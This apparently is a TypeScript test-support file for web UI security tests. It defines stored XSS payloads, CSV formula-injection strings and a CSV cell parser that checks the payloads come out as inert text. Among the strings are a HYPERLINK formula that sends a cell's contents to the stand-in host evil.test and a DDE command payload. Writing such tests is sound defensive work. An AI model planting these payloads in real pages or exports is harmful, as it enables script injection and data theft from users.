/** Payloads and a CSV reader for the web UI attack suites (server side and in Chromium). */

/** Stored XSS attempts: each would set window.__pwned and open a dialog if it ever ran. */
export const XSS = {
  img: `<img src=x onerror="window.__pwned='img';alert('img')">`,
  script: `"><script>window.__pwned='script';alert('script')</script>`,
  jsUrl: `javascript:window.__pwned='js-url';alert('js-url')`,
  link: `<a href="javascript:alert('link')">click me</a>`,
  svg: `<svg onload="window.__pwned='svg';alert('svg')">`,
  displayName: `"><img src=x onerror="window.__pwned='name';alert('name')">`,
  email: `<img/src=x/onerror=alert('email')>@evil.test`,
};
/** Spreadsheet formulas: each must reach the CSV as text, never as a formula. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1,1)',
];

/** Every cell's text as a spreadsheet would read it (RFC 4180: quotes removed, "" unescaped). */
export function csvCells(text: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unclosed quote');
        v += text.slice(i, q);
        if (text[q + 1] === '"') {
          v += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      cells.push(v);
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r') j++;
      cells.push(text.slice(i, j));
      i = j;
    }
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) i += 2;
  }
  return cells;
}
